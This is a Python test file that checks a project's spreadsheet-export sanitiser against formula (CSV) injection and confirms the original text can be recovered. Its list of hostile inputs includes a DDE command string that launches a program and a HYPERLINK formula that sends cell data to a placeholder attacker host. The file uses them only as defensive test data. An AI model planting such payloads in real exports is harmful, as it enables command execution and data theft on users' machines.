"""A8: no cell of an export begins what a spreadsheet would run, and nothing of a text is lost."""

import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from earwitness.exports import cells

EVERYTHING = [chr(point) for point in range(0x110000) if not 0xD800 <= point < 0xE000]
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "⁼1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
    "\tplain",
    "\rplain",
    "⩵1",
]
PIECES = st.sampled_from([*"=+-@＝' \t\r\n,;|\"\u200bab", "x" * 3])
TEXTS = st.text() | st.lists(PIECES).map("".join)


def seen(cell):
    """What of a cell a spreadsheet may go by: unseen signs dropped, compatible forms made one."""
    shown = "".join(
        c
        for c in cell
        if unicodedata.category(c) not in {"Cc", "Cf", "Zs", "Zl", "Zp"} and not c.isspace()
    )
    return unicodedata.normalize("NFKC", shown.strip())


def is_live(cell):
    return cell[:1] in {"\t", "\r"} or seen(cell)[:1] in set("=+-@")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("made", [cells.harmless, cells.harmless_in_lines])
def test_a8_a_hostile_text_becomes_harmless(text, made):
    assert is_live(text)
    assert not is_live(made(text))


@given(TEXTS)
def test_a8_no_text_makes_a_live_cell(text):
    assert not is_live(cells.harmless(text))


@given(TEXTS)
def test_a8_no_part_of_a_line_makes_a_live_cell_whatever_the_separator(text):
    made = cells.harmless_in_lines(text)
    for separator in (",", ";", "[|]", "\t", "[\r\n]"):
        for part in re.split(separator, made):
            begun = part.strip('"')
            assert seen(begun)[:1] not in set("=+-@")


@given(TEXTS)
def test_the_text_can_be_had_back(text):
    assert cells.plain(cells.harmless(text)) == text
    assert cells.plain_in_lines(cells.harmless_in_lines(text)) == text


@pytest.mark.parametrize("text", ["", "plain", "a=b", "5-3", "it's", "'quoted'", "me@site.example"])
def test_a_harmless_text_stays_as_it_is(text):
    assert cells.harmless_in_lines(text) == cells.harmless(text) == text


def test_a8_every_sign_that_becomes_a_formulas_is_known():
    live = {c for c in EVERYTHING if unicodedata.normalize("NFKC", c)[:1] in set("=+-@")}
    assert {c for c in live if cells.harmless(f"{c}1") == f"{c}1"} == set()


def test_a8_everything_that_is_not_seen_is_looked_behind():
    unseen = {
        c for c in EVERYTHING if unicodedata.category(c) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
    } | {c for c in EVERYTHING if c.isspace()}
    assert {c for c in unseen if cells.harmless(f"{c}=1") == f"{c}=1"} == set()


@pytest.mark.parametrize("text", ["\t" * 300_000, "\n" * 300_000 + "=", ";\u200b" * 200_000])
def test_a12_a_long_text_takes_no_long_time(text):
    started = time.perf_counter()
    cells.plain_in_lines(cells.harmless_in_lines(text))
    assert time.perf_counter() - started < 5
